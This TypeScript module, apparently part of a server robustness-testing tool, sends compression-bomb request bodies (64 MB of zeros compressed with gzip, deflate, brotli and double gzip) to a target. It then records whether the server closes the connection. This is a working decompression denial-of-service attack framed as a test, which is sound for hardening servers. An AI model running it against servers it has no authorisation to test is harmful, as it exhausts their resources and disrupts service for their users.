import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import type { Attack } from './attack.ts';
import { RawConnection, signHead } from './raw-connection.ts';

const ZEROS = Buffer.alloc(64 * 1024 * 1024);

/** Bombs: tens of megabytes in some kilobytes. */
export const compressed = (async (target, { rounds = 0 }) => {
  const bombs: readonly (readonly [string, Uint8Array])[] = [
    ['gzip', gzipSync(ZEROS)],
    ['x-gzip', gzipSync(ZEROS)],
    ['deflate', deflateSync(ZEROS)],
    ['br', brotliCompressSync(ZEROS)],
    ['gzip, gzip', gzipSync(gzipSync(ZEROS))],
    ['zstd', gzipSync(ZEROS)],
  ];
  const statuses: string[] = [];
  for (let round = 0; round < rounds; round += 1) {
    await Promise.all(
      bombs.map(async ([encoding, bomb]) => {
        const connection = await RawConnection.open(target);
        if (connection === null) return;
        const headers = [`Content-Encoding: ${encoding}`, `Content-Length: ${bomb.length}`];
        connection.send(`${signHead(target, ...headers)}\r\n`);
        connection.send(bomb);
        const closed = await connection.closedWithin(5000);
        statuses.push(closed ? connection.statuses.join() : 'left open');
        await connection.destroy();
      }),
    );
  }
  return { statuses };
}) satisfies Attack;
